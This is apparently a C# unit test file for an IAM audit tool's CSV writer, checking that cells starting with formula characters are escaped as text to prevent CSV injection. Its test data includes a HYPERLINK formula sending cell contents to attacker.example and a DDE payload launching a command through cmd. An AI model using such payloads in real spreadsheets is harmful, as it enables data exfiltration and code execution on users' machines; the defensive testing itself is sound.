using IamHarden.Analysis.Audit;
using IamHarden.Analysis.Audit.Checks;
using IamHarden.Cli.Rendering;

namespace IamHarden.Cli.Tests.Audit;

/// <summary>
/// CSV output is opened in spreadsheets, which run a cell starting with =, +, -, @ (or a tab or
/// carriage return) as a formula (OWASP "CSV Injection"). Account text reaches the cells — IAM
/// names may contain = + - @ — so such cells are written as text, with a leading apostrophe.
/// </summary>
public class AuditCsvTests
{
    private static AuditReport ReportWith(string subject, string message) => new("111122223333", DateTimeOffset.UnixEpoch, null,
        [new Finding { Check = ConsoleMfaEnabled.Definition, Subject = subject, Message = new(message, message) }],
        [], [ConsoleMfaEnabled.Definition], [], "test");

    [Theory]
    [InlineData("=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1,2)")]
    [InlineData("\t=1+2")]
    [InlineData("\r=1+2")]
    public void Cells_that_a_spreadsheet_would_run_are_written_as_text(string hostile)
    {
        var rows = AuditCommandTests.ReadCsv(AuditCsvWriter.Write(ReportWith(hostile, hostile), "en"));
        Assert.Equal(2, rows.Count);
        var row = rows[1];
        Assert.Equal(8, row.Count);
        Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"cell starts with a formula character: {cell}"));
        Assert.Equal("'" + hostile, row[2]);
        Assert.Equal("'" + hostile, row[4]);
    }

    [Fact]
    public void Ordinary_cells_are_left_alone()
    {
        var rows = AuditCommandTests.ReadCsv(AuditCsvWriter.Write(ReportWith("arn:aws:iam::111122223333:user/dave", "User dave, \"quoted\", has no MFA"), "en"));
        Assert.Equal("arn:aws:iam::111122223333:user/dave", rows[1][2]);
        Assert.Equal("User dave, \"quoted\", has no MFA", rows[1][4]);
    }
}
